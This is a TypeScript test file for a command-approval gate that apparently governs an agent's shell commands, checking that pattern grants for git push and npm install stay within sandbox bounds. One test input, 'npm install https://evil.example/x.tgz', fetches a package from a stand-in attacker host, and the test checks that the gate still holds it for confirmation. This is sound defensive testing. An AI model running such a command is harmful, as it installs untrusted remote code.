import { execFileSync } from 'node:child_process'
import { type Bounds, type GrantOffer, type HeldCallView, lintPolicy, type RunPlace } from '@countersign/core'
import { setRule } from '@countersign/testing/gate/set-rule'
import { openWorld, type World } from '@countersign/testing/gate/world'
import { afterEach, describe, expect, it } from 'vitest'

let world: World
afterEach(() => world.close())

const running = (command: string) => ({ tool: 'execute_command', args: { command }, containable: true })

/** A repository whose remote is at this URL. */
async function withRemote(url: string): Promise<void> {
  world = await openWorld()
  const git = (...words: string[]) => execFileSync('git', words, { cwd: world.workspace, stdio: 'ignore' })
  git('init')
  git('remote', 'add', 'origin', url)
}

/** The card of a command, which is then withdrawn. */
async function cardOf(command: string, gate = world.gate): Promise<HeldCallView> {
  const leaving = new AbortController()
  const asked = gate.ask(running(command), leaving.signal)
  const [view] = await world.held()
  leaving.abort()
  await asked
  if (view === undefined) throw new Error('the call is not held')
  return view
}

const NOTHING_FOUND = { problems: [], warnings: [], notes: [] }

const pattern = ({ offers }: HeldCallView): GrantOffer | undefined =>
  offers.find(({ scope }) => scope.kind === 'pattern')

/** Runs a command that must not be held. */
async function placeOf(command: string): Promise<Bounds | null | undefined> {
  let place: Bounds | null | undefined
  const asked = world.gate.run(running(command), (_, how: RunPlace) => {
    place = how.contain
  })
  await asked
  return place
}

async function approveWith(view: HeldCallView, { scope, bounds }: GrantOffer): Promise<void> {
  const grant = { scope, lifetime: { kind: 'session' } as const, ...(bounds === undefined ? {} : { bounds }) }
  expect(await world.decide(view, { kind: 'approve', grant })).toMatchObject({ accepted: true })
}

describe('the grant for commands of the same shape', () => {
  it('lets repeats of a push reach the folder of the remote, in the sandbox', async () => {
    await withRemote('../remote.git')
    const remote = world.workspace.replace(/project$/, 'remote.git')
    const asked = world.gate.run(running('git push origin dev'), () => 'ran')
    const [view] = await world.held()
    const offer = view === undefined ? undefined : pattern(view)
    expect(offer?.words).toMatch(
      /git push origin <branches and tags>.*; repeats run in the sandbox, also writing `.*remote\.git`, without network$/,
    )
    if (view === undefined || offer === undefined) throw new Error('no pattern is offered')
    await approveWith(view, offer)
    await asked
    expect(await placeOf('git push origin other')).toMatchObject({ write: [remote], network: [] })
  })

  it('lets them reach the host of the remote, with the credentials of git', async () => {
    await withRemote('https://git.example/team/app.git')
    const offer = pattern(await cardOf('git push origin dev'))
    expect(offer?.bounds).toMatchObject({ network: ['git.example'], credentials: ['git'] })
    expect(offer?.words).toContain(
      'repeats run in the sandbox, also reaching `git.example`, also with the credentials `git`',
    )
  })

  it.each(['git@git.example:team/app.git', 'ssh://git@git.example/app.git', '/srv', '~/app.git'])(
    'is not offered for a remote at %s, which the sandbox cannot reach',
    async (url) => {
      await withRemote(url)
      expect(pattern(await cardOf('git push origin dev'))).toBeUndefined()
    },
  )

  it('covers packages together with their registry, and no other host', async () => {
    world = await openWorld()
    const asked = world.gate.run(running('npm install left-pad'), () => 'ran')
    const [view] = await world.held()
    const offer = view === undefined ? undefined : pattern(view)
    expect(offer?.words).toContain('npm install <packages of the registry>')
    if (view === undefined || offer === undefined) throw new Error('no pattern is offered')
    await approveWith(view, offer)
    await asked
    expect(await placeOf('npm install right-pad')).toMatchObject({ network: ['registry.npmjs.org'] })
    expect((await cardOf('npm view left-pad')).verdict.rule).toMatchObject({ id: 'preset.balanced.contact' })
    expect((await cardOf('npm install https://evil.example/x.tgz')).verdict.supervision).toBe('confirm')
  })
})

describe('the rule for commands of the same shape', () => {
  it('is exactly as wide, has the same bounds, lets the command run, and lint finds nothing in it', async () => {
    await withRemote('../remote.git')
    const remote = world.workspace.replace(/project$/, 'remote.git')
    const always = pattern(await cardOf('git push origin dev'))?.always
    expect(always).toMatchObject({
      conditions: { command: { program: 'git', verb: 'push', like: 'git push origin', in: world.workspace } },
      contain: { write: remote },
    })
    if (always === undefined) throw new Error('no rule is offered')
    const rule = { id: 'push', ...always.conditions, contain: always.contain, supervision: 'automatic' }
    const text = JSON.stringify({ version: 1, rules: [rule] })
    const file = { layer: 'user', name: 'policy.yaml', text, trusted: true } as const
    expect(lintPolicy([file], { checkers: [], crypto: world.ports.crypto })).toEqual(NOTHING_FOUND)
    await setRule(world, { kind: 'set', ...always, supervision: 'automatic' })
    expect(await placeOf('git push origin other')).toMatchObject({ write: [remote], network: [] })
    expect((await cardOf('git push upstream other')).verdict.supervision).toBe('confirm')
    expect((await cardOf('git push --force origin other')).verdict.supervision).toBe('confirm')
  })

  it('is offered without a session too, where no grant for a pattern is', async () => {
    await withRemote('../remote.git')
    const { gate } = await world.another({ session: 'none' })
    const offer = pattern(await cardOf('git push origin dev', gate))
    expect(offer).toMatchObject({
      lifetimes: [],
      always: { contain: { write: expect.stringContaining('remote.git') } },
    })
  })
})
